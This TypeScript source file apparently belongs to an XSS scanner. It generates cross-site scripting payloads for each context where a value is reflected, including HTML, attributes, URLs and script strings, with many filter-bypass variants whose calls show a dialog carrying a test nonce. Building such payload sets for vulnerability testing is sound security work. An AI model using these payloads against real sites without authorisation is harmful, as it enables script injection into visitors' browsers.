import type { Reflection } from './reflection.ts';
import { addressCall, bareCall, call, otherCall, spelledCall, upperCall } from './script-calls.ts';

/** A value that makes a dialog with the trial's nonce when it is run, and what has to be clicked for that. */
export type Payload = {
  value: string;
  clicks?: string[];
  /** The page has the script loaded from elsewhere, so that its own text shows no call. */
  isLoaded?: true;
};

export const pixel = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';

/** Markup that runs by itself, each bypasses another kind of filter. */
const markup: Payload[] = [
  { value: `<svg onload=${call}>` },
  { value: `<script>${call}</script>` },
  { value: `<img src=x onerror=${call}>` },
  // no white space, no parentheses
  { value: `<svg/onload=${bareCall}>` },
  // filters that know one spelling
  { value: `<ScRiPt>${call}</sCrIpT>` },
  // filters that take a tag out once
  { value: `<scr<script>ipt>${call}</scr</script>ipt>` },
  // filters that list tags or handlers
  { value: `<details open ontoggle=${call}>` },
  { value: `<details open ontoggle=${otherCall}>` },
  { value: `<x-‹nonce› tabindex=1 autofocus onfocus=${call}>` },
  // filters that need a closed tag
  { value: `<img src=x onerror=${call} ` },
  { value: `<a href=javascript:${call}>‹nonce›</a>`, clicks: ['a[href*="‹nonce›"]'] },
  // decoded once more by the application
  { value: `%3Csvg onload=${call}%3E` },
  // all in upper case, or without the signs of a call
  { value: `<svg onload=${upperCall}>` },
  { value: `<svg onload=${addressCall}>` },
  // words that are removed once
  { value: `<sscriptcript>${call}</sscriptcript>` },
  { value: `<svg ononload=load=${call}>` },
  // lists of tags, handlers and calls
  { value: `<svg\fonload=${spelledCall}>` },
  { value: `<body onpageshow=${call}>` },
  { value: `<input autofocus onfocusin=${otherCall}>` },
  { value: `<b tabindex=1 autofocus onfocus=${call}>‹nonce›</b>` },
  { value: `<audio src onerror=${call}>` },
  { value: `<img src=x oonerrornerror=${call}>` },
  // handlers that are taken out behind white space
  { value: `<img/src/onerror=${call}>` },
  { value: `<img src=${pixel} onload=${call}>` },
  { value: `<iframe src=javascript:parent.${call}>` },
  { value: `<style>@keyframes k{}</style><b style=animation-name:k onanimationend=${call}>‹nonce›</b>` },
  {
    value: `<form><button formaction=javascript:${call}>‹nonce›</button></form>`,
    clicks: ['button[formaction*="‹nonce›"]'],
  },
];

/** One handler runs as soon as its element is seen, wherever the focus is, and one when it is clicked on. */
const seenOrClicked = `style=display:block;content-visibility:auto oncontentvisibilityautostatechange=${call} onclick=${call}`;

/** For pages on which other elements have the focus: handlers of the element itself, or of tags that filters let pass for plain text. */
export function withoutFocus(reflection: Reflection): Payload[] {
  switch (reflection.kind) {
    case 'markup':
      return ['b', 'i', 'a', 'p', 'div', 'span', 'x-a'].map((name) => ({
        value: `${reflection.end}<${name} ${seenOrClicked}>‹nonce›</${name}>`,
        clicks: [`${name}[onclick*="‹nonce›"]`],
      }));
    case 'attribute':
    case 'tag': {
      const quote = reflection.kind === 'tag' ? '' : reflection.quote;
      const value = `${endOfValue(quote)} ${seenOrClicked} x=${quote}`;
      return [{ value, clicks: ['[onclick*="‹nonce›"]'] }];
    }
    default:
      return [];
  }
}

const after = (prefix: string, payloads: readonly Payload[]): Payload[] =>
  payloads.map((payload) => ({ ...payload, value: prefix + payload.value }));

/** Values to try for a reflection, the likeliest first. */
export function payloadsFor(reflection: Reflection): Payload[] {
  switch (reflection.kind) {
    case 'markup':
      return after(reflection.end, markup);
    case 'comment':
      return [...after('-->', markup.slice(0, 4)), ...after('--!>', markup.slice(0, 1))];
    case 'attribute':
      return attributePayloads(reflection.quote);
    case 'tag':
      return [{ value: ` tabindex=1 autofocus onfocus=${call} ` }, ...after('>', markup.slice(0, 3))];
    case 'handler':
      return handlerPayloads(reflection);
    case 'url':
      return urlPayloads(reflection);
    case 'script':
      return [...scriptBreakouts(reflection.state), ...after('</script>', markup.slice(0, 4))];
  }
}

/** What ends the place where a value stands, so that markup may follow; undefined where none can. */
export function endOf(reflection: Reflection): string | undefined {
  switch (reflection.kind) {
    case 'markup':
      return reflection.end;
    case 'comment':
      return '-->';
    case 'attribute':
      return `${reflection.quote}>`;
    case 'tag':
      return '>';
    case 'script':
      return '</script>';
    default:
      return undefined;
  }
}

/** Without quotes a value has to begin with something else than white space, which does not end one that is empty. */
export const endOfValue = (quote: '"' | "'" | ''): string => (quote === '' ? 'x ' : quote);

function attributePayloads(quote: '"' | "'" | ''): Payload[] {
  const out = endOfValue(quote);
  return [
    ...after(`${quote}>`, markup.slice(0, 4)),
    // without angle brackets: the element itself gets a handler and the focus
    { value: `${out} tabindex=1 autofocus onfocus=${call} x=${quote}` },
    // what is loaded, as a picture or a style sheet, has no focus
    { value: `${out} onload=${call} onerror=${call} x=${quote}` },
    { value: `${out}/tabindex=1/autofocus/onfocus=${bareCall}/x=${quote}` },
    { value: `${out} tabindex=1 autofocus onfocusin=${otherCall} x=${quote}` },
    { value: `${out} tabindex=1 autofocus onfocus=${upperCall} x=${quote}` },
    // what cannot have the focus, as a hidden field
    { value: `${out} oncontentvisibilityautostatechange=${call} style=content-visibility:auto x=${quote}` },
  ];
}

/** Most handlers wait for a visitor, who clicks on what is there to be clicked on. */
function handlerPayloads({ state, element, attribute }: Reflection & { kind: 'handler' }): Payload[] {
  const isByItself = /^on(?:load|error|toggle|pageshow|animation|begin)|^src$/.test(attribute);
  const clicks = isByItself ? [] : [`${element}[${attribute}*="‹nonce›"]`];
  return scriptBreakouts(state).map((payload) => ({ ...payload, clicks }));
}

function urlPayloads({ element, attribute }: Reflection & { kind: 'url' }): Payload[] {
  if (element === 'script') return [{ value: `data:text/javascript,${call}//`, isLoaded: true }];
  const address = `[${attribute.replace(':', '\\:')}*="‹nonce›"]`;
  const clicks =
    attribute === 'action'
      ? [`form${address} [type=submit]`, `form${address} button`]
      : element === 'iframe' || element === 'embed' || element === 'object'
        ? []
        : [`${element}${address}`];
  return [
    // The same where an address has to be in it.
    `javascript:${call}//https://`,
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `java\tscript:${call}`,
    `\u0001javascript:${bareCall}`,
    // removed once; written as a reference
    `javajavascriptscript:${call}`,
    `javascjavascript:ript:${call}`,
    `javascript&colon;${call}`,
    `javascript:${spelledCall}`,
  ].map((value) => ({
    value,
    clicks,
  }));
}

function scriptBreakouts(state: (Reflection & { kind: 'script' })['state']): Payload[] {
  switch (state) {
    case "'":
    case '"':
      return [
        { value: `${state}-${call}-${state}` },
        { value: `${state}-${bareCall}-${state}` },
        // The name of a member stands for itself alone.
        { value: `${state}:${call},${state}` },
        { value: `${state}+${otherCall}+${state}` },
        { value: `${state}+${spelledCall}+${state}` },
        { value: `${state};${addressCall};${state}` },
        // the quote is escaped, the backslash is not: end what the string stands in, and leave the rest out
        ...['-', ');', '};', '];', '});'].map((end) => ({ value: `\\${state}${end}${call}//` })),
        { value: `${state});${call}//` },
        { value: `${state};${call}//` },
      ];
    case '`':
      return [{ value: `\${${call}}` }, { value: `\`-${call}-\`` }];
    case 'regex':
      // Nothing may stand before it, and two slashes begin a comment.
      return [{ value: `x/-${call}-/x` }];
    case 'line-comment':
      return [{ value: `\n${call}//` }, { value: `\u2028${call}//` }];
    case 'block-comment':
      // Code may follow on the line, or the comment may stand within an expression.
      return [{ value: `*/;${call};/*` }, { value: `*/${call}/*` }];
    case 'code':
      return [
        { value: call },
        { value: bareCall },
        { value: `0;${call}//` },
        { value: `x:${call}` },
        { value: `x=${call}//` },
      ];
  }
}
